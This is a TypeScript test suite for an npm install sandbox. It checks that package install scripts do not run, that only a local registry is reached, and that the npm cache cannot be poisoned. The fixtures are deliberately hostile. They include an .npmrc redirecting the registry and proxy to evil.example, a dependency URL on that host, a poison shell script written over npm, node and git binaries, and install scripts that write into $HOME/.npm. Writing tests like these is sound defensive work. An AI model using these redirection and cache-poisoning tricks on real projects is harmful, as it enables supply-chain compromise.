import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, realpath, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { exec } from '../exec.ts';
import { detectSandbox, type SandboxOptions } from './detect-sandbox.ts';
import type { Sandbox } from './sandbox.ts';

const scripts = { preinstall: 'touch $INIT_CWD/owned', postinstall: 'touch $INIT_CWD/owned' };

const packTarball = async (top: string): Promise<Buffer> => {
  await mkdir(join(top, 'package'));
  await writeFile(join(top, 'package', 'index.js'), 'module.exports = 42;\n');
  await writeFile(
    join(top, 'package', 'package.json'),
    JSON.stringify({ name: 'left', version: '1.0.0', scripts }),
  );
  const argv = ['tar', '-czf', 'left.tgz', 'package'] as const;
  await exec({ argv: [...argv], cwd: top, env: { PATH: process.env['PATH'] ?? '' }, timeoutMs: 60_000 });
  return readFile(join(top, 'left.tgz'));
};

/** A registry on loopback with one package, `left`, which has install scripts. `asked` is what it was asked for. */
const serveRegistry = async (tarball: Buffer): Promise<{ server: Server; url: string; asked: string[] }> => {
  const asked: string[] = [];
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  const server = createServer((request, reply) => {
    asked.push(request.url ?? '');
    if (request.url?.endsWith('.tgz') === true) return reply.end(tarball);
    if (request.url !== '/left') return reply.writeHead(404).end('{}');
    const version = {
      name: 'left',
      version: '1.0.0',
      scripts,
      hasInstallScript: true,
      dist: { tarball: `${url}left/-/left-1.0.0.tgz`, integrity },
    };
    reply.setHeader('content-type', 'application/json');
    return reply.end(
      JSON.stringify({ name: 'left', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': version } }),
    );
  });
  await new Promise<void>((resolve) => server.unref().listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  return { server, url, asked };
};

interface Scene {
  cage: Sandbox;
  workspace: string;
  cacheDir: string;
  registry: Awaited<ReturnType<typeof serveRegistry>>;
  run: (network: 'none' | 'registry', ...argv: [string, ...string[]]) => ReturnType<Sandbox['run']>;
}

const cageFor = async (options: SandboxOptions, t: TestContext): Promise<Sandbox | undefined> => {
  const found = await detectSandbox(options);
  if (found.level !== 'none') return found.sandbox;
  if (process.env['CI'] === 'true') throw new Error(`${found.reason}: apt-get install -y bubblewrap socat`);
  t.skip(found.reason);
  return undefined;
};

const withProject = async (t: TestContext, body: (scene: Scene) => Promise<void>): Promise<void> => {
  const top = await realpath(await mkdtemp(join(tmpdir(), 'install-')));
  const registry = await serveRegistry(await packTarball(top));
  const workspace = join(top, 'project');
  const cacheDir = join(top, 'cache');
  await mkdir(workspace);
  await writeFile(
    join(workspace, 'package.json'),
    JSON.stringify({ name: 'p', version: '1.0.0', dependencies: { left: '^1.0.0' } }),
  );
  const host = { path: process.env['PATH'] ?? '', home: top };
  const cage = await cageFor({ host, cacheDir, registryUrl: registry.url }, t);
  if (cage !== undefined) {
    const env = { npm_config_audit: 'false' };
    const run: Scene['run'] = (network, ...argv) =>
      cage.run({ argv, env, timeoutMs: 120_000 }, { workspace, readable: [], network });
    await body({ cage, workspace, cacheDir, registry, run });
  }
  registry.server.closeAllConnections();
  registry.server.close();
  await rm(top, { recursive: true });
};

test('D2-2: npm installs from the registry and from nowhere else, and no script of a package runs', (t) =>
  withProject(t, async ({ workspace, run, registry, cacheDir }) => {
    const finished = await run('registry', 'npm', 'install');
    assert.equal(finished.exitCode, 0, finished.stderr);
    assert.equal(
      await readFile(join(workspace, 'node_modules/left/index.js'), 'utf8'),
      'module.exports = 42;\n',
    );
    assert.equal(existsSync(join(workspace, 'owned')), false);
    assert.deepEqual(registry.asked, ['/left', '/left/-/left-1.0.0.tgz']);
    assert.ok((await readdir(cacheDir)).includes('_cacache'));
    await rm(join(workspace, 'node_modules'), { recursive: true });
    const again = await run('registry', 'npm', 'ci', '--prefer-offline');
    assert.equal(again.exitCode, 0, again.stderr);
    assert.deepEqual(registry.asked.filter((path) => path.endsWith('.tgz')).length, 1);
  }));

test('a configuration that the project brings along does not change the registry or the scripts', (t) =>
  withProject(t, async ({ workspace, run, registry }) => {
    await writeFile(
      join(workspace, '.npmrc'),
      'registry=https://evil.example/\nignore-scripts=false\ncache=./cache\nproxy=http://evil.example\n',
    );
    const finished = await run('registry', 'npm', 'install');
    assert.equal(finished.exitCode, 0, finished.stderr);
    assert.equal(existsSync(join(workspace, 'owned')), false);
    assert.equal(existsSync(join(workspace, 'cache')), false);
    assert.equal(registry.asked.length, 2);
  }));

test('a dependency from elsewhere fails the install and says what was refused', (t) =>
  withProject(t, async ({ workspace, run }) => {
    const dependencies = { other: 'https://evil.example/other.tgz' };
    await writeFile(
      join(workspace, 'package.json'),
      JSON.stringify({ name: 'p', version: '1.0.0', dependencies }),
    );
    const finished = await run('registry', 'npm', 'install', '--fetch-retries=0');
    assert.equal(finished.failed, true);
    assert.match(finished.stderr, /millwright: only the package registry is reached, not evil\.example:443/);
  }));

test('without the registry there is no way out, and the cache is not seen', (t) =>
  withProject(t, async ({ run, registry, cacheDir }) => {
    await mkdir(cacheDir);
    await writeFile(join(cacheDir, 'of-the-cache'), 'x');
    const code = `const fs = require('fs'); console.log(fs.existsSync('/run/registry.sock'), fs.existsSync(process.env.HOME + '/.npm'), fs.existsSync(${JSON.stringify(cacheDir)}));
      fetch(${JSON.stringify(registry.url)}).catch((error) => console.log(error.cause.code))`;
    assert.equal((await run('none', 'node', '-e', code)).stdout, 'false false false\nECONNREFUSED\n');
    assert.equal((await run('none', 'npm', 'install', '--fetch-retries=0')).failed, true);
    assert.deepEqual(registry.asked, []);
  }));

test('the cache that later installs trust is written by npm alone, and the project cannot pose as npm', (t) =>
  withProject(t, async ({ cage, workspace, run, cacheDir }) => {
    await mkdir(cacheDir);
    await mkdir(join(workspace, 'node_modules/.bin'), { recursive: true });
    const poison = '#!/bin/sh\necho owned > $HOME/.npm/poison; echo posed\n';
    for (const name of ['npm', 'node', 'evil'])
      await writeFile(join(workspace, 'node_modules/.bin', name), poison, { mode: 0o755 });
    assert.match((await run('registry', 'npm', '--version')).stdout, /^\d+\.\d+/);
    await run('registry', 'sh', '-c', 'mkdir -p $HOME/.npm; node_modules/.bin/evil');
    const policy = { workspace, readable: [], network: 'registry' as const };
    await mkdir(join(workspace, 'evil'));
    const evil = { name: 'evil', version: '1.0.0', scripts: { install: 'echo owned > $HOME/.npm/poison' } };
    await writeFile(join(workspace, 'evil/package.json'), JSON.stringify(evil));
    const scripts = {
      argv: ['npm', 'exec', '-c', 'echo owned > $HOME/.npm/poison'] as [string, ...string[]],
      timeoutMs: 60_000,
    };
    await cage.run({ ...scripts, env: { npm_config_ignore_scripts: 'false' } }, policy);
    await cage.run(scripts, policy);
    await run('registry', 'npm', 'install', '--ignore-scripts=false', '--foreground-scripts', './evil');
    await run('registry', 'npm', 'ci', `--prefix=${workspace}`, '--git=./node_modules/.bin/evil');
    await writeFile(join(workspace, 'evil-git'), poison, { mode: 0o755 });
    await writeFile(join(workspace, '.npmrc'), 'git=./evil-git\nignore-scripts=false\n');
    const dependencies = { g: 'git+file:///nowhere/g.git' };
    await writeFile(
      join(workspace, 'package.json'),
      JSON.stringify({ name: 'p', version: '1.0.0', dependencies }),
    );
    await run('registry', 'npm', 'install');
    assert.equal(existsSync(join(cacheDir, 'poison')), false);
  }));
